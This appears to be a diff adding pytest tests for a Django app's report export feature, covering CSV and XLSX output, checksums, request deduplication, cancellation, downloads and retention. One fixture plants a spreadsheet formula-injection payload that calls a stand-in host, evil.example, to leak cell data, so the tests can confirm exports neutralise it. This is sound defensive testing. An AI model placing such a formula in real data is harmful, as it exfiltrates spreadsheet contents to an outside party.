@@ -1,0 +1,136 @@
+"""Exports: filtered rows streamed to CSV and XLSX with row count and checksum, formula-safe
+cells, deduplicated requests, cancellation (queued and mid-run), download, retention."""
+
+import csv
+import hashlib
+import io
+from datetime import timedelta
+from pathlib import Path
+from unittest import mock
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from messaging.pipeline.models import Message
+from messaging.reports import exports
+from messaging.reports.models import ExportJob, ExportStatus
+from tests.messaging.reports.pipeline_steps import dispatch, send
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture(autouse=True)
+def _media(settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
+
+
+@pytest.fixture
+def sent(account, sending_setup):
+    when = timezone.now() - timedelta(minutes=30)
+    uk = send(account, when, 5, uk=True)
+    send(account, when, 2, uk=False)
+    dispatch(uk, when, refuse=False)
+    Message.objects.filter(batch=uk, index=1).update(custom='=HYPERLINK("https://evil.example/?"&A1)')
+    return uk
+
+
+def _queue(account, query, fmt="csv"):
+    with mock.patch("messaging.reports.exports.transaction.on_commit"):
+        return exports.request_export(account, query=query, fmt=fmt)
+
+
+def test_csv_export_of_a_filtered_report(account, sent, user_client):
+    job, created = _queue(account, {"iso": "GB"})
+    assert created and job.status == ExportStatus.QUEUED
+    assert exports.run(job.pk) == 5
+    job.refresh_from_db()
+    assert (job.status, job.rows, job.expected_rows) == (ExportStatus.DONE, 5, 5)
+    data = Path(job.file.path).read_bytes()
+    assert job.checksum == hashlib.sha256(data).hexdigest() and job.size == len(data)
+    rows = list(csv.reader(io.StringIO(data.decode())))
+    assert rows[0] == list(exports.HEADER) and len(rows) == 6
+    assert {r[3] for r in rows[1:]} == {"GB"}
+    assert rows[1][11].startswith("'=HYPERLINK")  # a formula is text in every spreadsheet
+    assert job.expires_at > timezone.now() + timedelta(days=6)
+    res = user_client.get(reverse("reports:export_download", args=[job.uuid]))
+    assert res.status_code == 200 and res["X-Checksum-SHA256"] == job.checksum
+    assert b"".join(res.streaming_content) == data
+    page = user_client.get(reverse("reports:exports")).content.decode()
+    assert job.checksum in page and "Download" in page
+
+
+def test_xlsx_export(account, sent):
+    job, _ = _queue(account, {}, fmt="xlsx")
+    assert exports.run(job.pk) == 7
+    job.refresh_from_db()
+    sheet = load_workbook(job.file.path, read_only=True)["Messages"]
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0] == exports.HEADER and len(rows) == 8
+    assert any(str(r[11]).startswith("'=HYPERLINK") for r in rows[1:])
+    assert job.checksum == hashlib.sha256(Path(job.file.path).read_bytes()).hexdigest()
+
+
+def test_the_same_request_while_one_runs_reuses_it(account, sent):
+    first, created = _queue(account, {"iso": "GB", "sender": "AcmeUK"})
+    again, created_again = _queue(account, {"sender": "AcmeUK", "iso": "GB"})
+    assert created and not created_again and again.pk == first.pk
+    other, created_other = _queue(account, {"iso": "GB", "sender": "AcmeUK"}, fmt="xlsx")
+    assert created_other and other.pk != first.pk
+    exports.run(first.pk)
+    after, created_after = _queue(account, {"iso": "GB", "sender": "AcmeUK"})
+    assert created_after and after.pk != first.pk  # a finished export is not reused
+    assert exports.run(first.pk) is None  # a job runs once
+
+
+def test_bad_filters_are_refused_before_queueing(account, sent):
+    from portal.core.errors import ValidationFailed
+
+    with pytest.raises(ValidationFailed):
+        _queue(account, {"campaign": "not-a-uuid"})
+    with pytest.raises(ValidationFailed):
+        _queue(account, {}, fmt="pdf")
+    assert not ExportJob.objects.exists()
+
+
+def test_cancel_a_queued_and_a_running_export(account, sent, user_client):
+    queued, _ = _queue(account, {})
+    user_client.post(reverse("reports:export_cancel", args=[queued.uuid]))
+    assert exports.run(queued.pk) is None
+    queued.refresh_from_db()
+    assert queued.status == ExportStatus.CANCELLED and not queued.file
+
+    running, _ = _queue(account, {"iso": "GB"})
+    real_rows = exports.rows_of
+
+    def cancelled_after_two(job):
+        for i, row in enumerate(real_rows(job)):
+            if i == 2:
+                exports.cancel(job)
+            yield row
+
+    with mock.patch.object(exports, "PROGRESS_EVERY", 1), mock.patch.object(exports, "rows_of", cancelled_after_two):
+        assert exports.run(running.pk) is None
+    running.refresh_from_db()
+    # It stops at the next progress update: the third row was written when it noticed.
+    assert running.status == ExportStatus.CANCELLED and running.rows == 3 and not running.file
+
+
+def test_page_request_and_retention(account, sent, user_client, django_capture_on_commit_callbacks):
+    with mock.patch("messaging.reports.exports.current_app") as app:
+        with django_capture_on_commit_callbacks(execute=True):
+            res = user_client.post(reverse("reports:export_create"), {"format": "csv", "iso": "GB", "email": "1"})
+        assert res.status_code == 302 and res["Location"] == reverse("reports:exports")
+        job = ExportJob.objects.get()
+        app.tasks[exports.RUN_TASK].delay.assert_called_once_with(job.pk)
+    exports.run(job.pk)
+    from django.core import mail
+
+    assert "5 rows" in mail.outbox[0].body and reverse("reports:exports") in mail.outbox[0].body
+    job.refresh_from_db()
+    path = job.file.path
+    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
+    assert exports.purge_expired() == 1
+    assert not ExportJob.objects.exists()
+    assert not Path(path).exists()
